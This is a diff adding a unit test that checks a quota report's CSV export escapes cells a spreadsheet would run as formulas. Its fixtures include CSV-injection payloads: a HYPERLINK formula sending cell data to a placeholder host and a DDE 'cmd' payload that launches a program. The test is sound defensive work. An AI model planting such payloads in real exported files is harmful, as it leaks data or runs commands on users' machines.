@@ -3,7 +3,7 @@
  * and quarters, what is still due in the current one, and the Markdown / CSV the unit files.
  */
 import { describe, expect, it } from 'vitest';
-import { reportCsv, reportMarkdown } from '../../src/report/format.ts';
+import { neutraliseFormula, reportCsv, reportMarkdown } from '../../src/report/format.ts';
 import { buildQuotaReport, parsePeriod, type ReportNews } from '../../src/report/quota.ts';
 
 const units = [
@@ -93,5 +93,32 @@ describe('quota report', () => {
     expect(csv.startsWith('\uFEFFĐơn vị,Mã đơn vị,Chỉ tiêu,T1,T2,T3,Đã đăng,Còn thiếu,Đánh giá\r\n')).toBe(true);
     expect(csv).toContain('\r\nVăn phòng,van-phong,3 (1 tin/tháng),1,0,1,2,1,Chưa đạt\r\n');
     expect(csv.trimEnd().split('\r\n')).toHaveLength(5);
+  });
+
+  it('neutralises CSV cells a spreadsheet would run as a formula, and keeps numbers numeric', () => {
+    const hostile = [
+      { id: 'a', name: '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")' },
+      { id: 'b', name: '+cmd|\' /C calc\'!A0' },
+      { id: 'c', name: '-2+3' },
+      { id: 'd', name: '@SUM(A1:A9)' },
+      { id: 'e', name: '\t=1+1' },
+      { id: 'f', name: '\r=1+1' },
+    ];
+    const report = buildQuotaReport({ period: q1, asOf: '2026-04-10', news: [], units: hostile, targets: [] });
+    const lines = reportCsv(report).replace(/^\uFEFF/, '').split('\r\n');
+    const firstCells = hostile.map((unit) => lines.find((line) => line.includes(`,${unit.id},`))?.split(`,${unit.id},`)[0]);
+    expect(firstCells).toEqual([
+      `"'=HYPERLINK(""http://x.invalid/?""&A1,""Bấm"")"`,
+      "'+cmd|' /C calc'!A0",
+      "'-2+3",
+      "'@SUM(A1:A9)",
+      "'\t=1+1",
+      `"'\r=1+1"`,
+    ]);
+    // No cell of the file starts a formula; counts (also a negative one) stay plain numbers.
+    expect(neutraliseFormula('-3')).toBe('-3');
+    expect(neutraliseFormula('12')).toBe('12');
+    expect(neutraliseFormula('-3 tin')).toBe("'-3 tin");
+    expect(neutraliseFormula('Văn phòng')).toBe('Văn phòng');
   });
 });
